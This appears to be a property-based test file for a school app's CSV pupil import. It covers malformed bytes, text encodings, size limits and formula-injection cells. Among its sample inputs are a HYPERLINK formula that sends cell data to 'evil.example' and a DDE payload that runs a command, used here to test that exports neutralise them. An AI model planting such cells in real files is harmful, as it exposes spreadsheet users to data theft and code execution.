"""Bad input to the CSV import, property-based (issue 5, part 6).

Whatever the bytes, ``imports.engine.run_import`` returns an ImportResult: either imported, or
errors that say what is wrong, with nothing saved. It never raises. A valid file reads the same in
UTF-8, UTF-8 with a byte-order mark and Windows-1252; a file over the size limit is refused without
being read whole; cells that look like spreadsheet formulas are stored as typed, and exports
neutralise them.

Each example runs in a transaction that is rolled back, so examples do not see each other's rows
and the function-scoped fixtures (school, settings) are safely shared between them.
"""

from __future__ import annotations

import codecs
import contextlib
import csv
import io
import json
import zipfile

import pytest
from django.db import transaction
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from pupils.models import Pupil
from pupils.upn import make_upn
from imports.engine import KINDS, TEMPLATES, run_import

pytestmark = pytest.mark.django_db

DB_SETTINGS = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
PUPILS_HEADER = "upn,surname,forename,date_of_birth,gender,year_group\r\n"


def upn(serial: int) -> str:
    """UPNs of another authority than the personas' pupils (801), so imported rows are new."""
    return make_upn(826, 2010, 20, serial)


@contextlib.contextmanager
def rolled_back():
    """Run one example and undo everything it saved."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


@pytest.fixture
def school(personas):
    from tests import factories as f

    f.SubjectFactory(code="english", name="English")
    return personas.school


def counts() -> dict[str, int]:
    from assessments.models import Assessment, Baseline, ReadingTest
    from interventions.models import Enrolment
    from pupils.models import RegisterEntry

    return {m.__name__: m.objects.count() for m in (Pupil, RegisterEntry, Baseline, Assessment, ReadingTest, Enrolment)}


def check_answer(result, before: dict[str, int]) -> None:
    """The import either saved rows and says how many, or says why not and saved nothing."""
    if result.ok:
        assert result.created + result.updated + result.unchanged == result.rows
    else:
        assert all(str(error) for error in result.errors)  # each with a message for the person
        assert result.created == result.updated == result.unchanged == 0
        assert counts() == before


# --- Any bytes, any text --------------------------------------------------------------------------


@DB_SETTINGS
@given(kind=st.sampled_from(KINDS), data=st.binary(max_size=3000))
def test_random_bytes_get_an_answer_never_an_exception(school, kind, data):
    with rolled_back():
        before = counts()
        result = run_import(kind=kind, data=data, school=school)
        check_answer(result, before)


@DB_SETTINGS
@given(kind=st.sampled_from(KINDS), body=st.text(max_size=1500))
def test_random_text_under_a_real_header_gets_an_answer_never_an_exception(school, kind, body):
    header = ",".join(TEMPLATES[kind]) + "\n"
    with rolled_back():
        before = counts()
        for data in (header + body, (header + body).encode("utf-8", "surrogatepass")):
            check_answer(run_import(kind=kind, data=data, school=school), before)


def cell() -> st.SearchStrategy[str]:
    """A cell as a careless export writes it: plausible values, junk, formulas, quotes and commas."""
    return st.one_of(
        st.sampled_from(["", " ", "2012-09-01", "01/09/2012", "31/02/2012", "F", "M", "X", "9", "R", "Y7", "4b",
                         "P8", "Y", "N", "maybe", "=1+1", '="2012-09-01"', "@SUM(A1)", "-3", "+44", '"', ",", "\t"]),
        st.text(max_size=12),
    )


@DB_SETTINGS
@given(rows=st.lists(st.tuples(st.integers(0, 999), st.lists(cell(), min_size=5, max_size=7)), min_size=1, max_size=8))
def test_rows_of_plausible_and_broken_cells_are_all_checked_and_saved_whole_or_not_at_all(school, rows):
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(TEMPLATES["pupils"][:6])
    for serial, cells in rows:
        writer.writerow([upn(serial), *cells])
    with rolled_back():
        before = counts()
        result = run_import(kind="pupils", data=out.getvalue().encode(), school=school)
        check_answer(result, before)
        if result.ok:
            assert Pupil.objects.filter(school=school).count() == before["Pupil"] + result.created


# --- Encodings ------------------------------------------------------------------------------------

NAME_LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ éèêëáàâäíîïóôöúûüçñÉÈÁÓÚÇÑ'’-"
names = st.text(alphabet=NAME_LETTERS, min_size=1, max_size=20).map(str.strip).filter(bool)


def pupils_file(people: list[tuple[str, str]]) -> str:
    lines = [PUPILS_HEADER]
    for serial, (surname, forename) in enumerate(people):
        lines.append(f"{upn(serial)},{surname},{forename},2012-09-01,F,9\r\n")
    return "".join(lines)


def imported(school, data: bytes):
    with rolled_back():
        result = run_import(kind="pupils", data=data, school=school)
        stored = sorted(Pupil.objects.filter(school=school, upn__regex=r"^.826").values_list("upn", "surname", "forename"))
    return result, stored


@DB_SETTINGS
@given(people=st.lists(st.tuples(names, names), min_size=1, max_size=6))
def test_a_valid_file_imports_the_same_in_utf8_with_or_without_bom_and_in_windows_1252(school, people):
    text = pupils_file(people)
    cp1252 = text.encode("cp1252")
    # The import reads UTF-8 when the bytes are UTF-8: a Windows-1252 file that happens also to be
    # valid UTF-8 (such as "é’’", bytes E9 92 92) cannot be told apart, so it is not this property.
    with contextlib.suppress(UnicodeDecodeError):
        assume(cp1252.decode("utf-8") == text)
    utf8, _ = imported(school, text.encode("utf-8"))
    assert utf8.ok, utf8.errors
    expected = sorted((upn(i), s, f) for i, (s, f) in enumerate(people))
    for data in (text.encode("utf-8"), codecs.BOM_UTF8 + text.encode("utf-8"), cp1252):
        result, stored = imported(school, data)
        assert result.ok, result.errors
        assert (result.created, result.rows) == (len(people), len(people))
        assert stored == expected
    if cp1252 != text.encode("utf-8"):
        result, _ = imported(school, cp1252)
        assert any("Windows-1252" in warning for warning in result.warnings)


# --- Size ----------------------------------------------------------------------------------------


class CountingFile(io.BytesIO):
    read_bytes = 0

    def read(self, size=-1):
        data = super().read(size)
        self.read_bytes += len(data)
        return data


@DB_SETTINGS
@given(extra=st.integers(1, 200_000), as_file=st.booleans())
def test_a_file_over_the_limit_is_refused_with_a_clear_message_without_reading_it_all(school, settings, extra, as_file):
    settings.IMPORT_MAX_BYTES = 4096
    data = (PUPILS_HEADER + "x" * (4096 + extra)).encode()[: 4096 + extra]
    source = CountingFile(data) if as_file else data
    with rolled_back():
        before = counts()
        result = run_import(kind="pupils", data=source, school=school)
        assert [str(e) for e in result.errors] == ["the file is larger than the import limit of 4 KB; split it into smaller files"]
        assert counts() == before
    if as_file:
        assert source.read_bytes == 4097  # the limit and one byte more


def test_a_file_exactly_at_the_limit_is_read(school, settings):
    settings.IMPORT_MAX_BYTES = 1024
    text = pupils_file([("Smith", "Amy")])
    data = text.encode() + b"\r\n" * ((1024 - len(text)) // 2)
    assert len(data) <= 1024
    result = run_import(kind="pupils", data=CountingFile(data), school=school)
    assert result.ok and result.created == 1


# --- Formula-injection cells ------------------------------------------------------------------------

FORMULA_CELLS = st.sampled_from(
    ['=HYPERLINK("http://evil.example/?d="&A1,"Click me")', "=1+2", "+SUM(A1:A9)", "-2+3", "@cmd", "=cmd|' /C calc'!A0"]
)


@DB_SETTINGS
@given(surname=FORMULA_CELLS, forename=FORMULA_CELLS)
def test_formula_cells_in_free_text_columns_are_stored_as_typed_and_the_export_neutralises_them(school, surname, forename):
    from pupils.subject_access import subject_access_zip

    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(
        [TEMPLATES["pupils"][:6], [upn(1), surname, forename, "2012-09-01", "F", "9"]]
    )
    with rolled_back():
        result = run_import(kind="pupils", data=out.getvalue(), school=school)
        assert result.ok, result.errors
        pupil = Pupil.objects.get(school=school, upn=upn(1))
        assert (pupil.surname, pupil.forename) == (surname, forename)  # as typed
        archive = zipfile.ZipFile(io.BytesIO(subject_access_zip(pupil)))
        row = next(csv.DictReader(io.StringIO(archive.read("csv/pupil.csv").decode())))
        assert (row["surname"], row["forename"]) == ("'" + surname, "'" + forename)
        data = json.loads(archive.read("subject-access.json"))
        assert data["pupil"]["surname"] == surname  # the JSON keeps the value exactly


@DB_SETTINGS
@given(formula=FORMULA_CELLS.filter(lambda text: not text.startswith("-")))
def test_a_formula_in_a_date_or_number_column_is_refused_and_nothing_is_saved(school, formula):
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(
        [TEMPLATES["pupils"][:6], [upn(2), "Smith", "Amy", formula, "F", formula]]
    )
    with rolled_back():
        before = counts()
        result = run_import(kind="pupils", data=out.getvalue(), school=school)
        assert {(e.line, e.column) for e in result.errors} == {(2, "date_of_birth"), (2, "year_group")}
        assert counts() == before
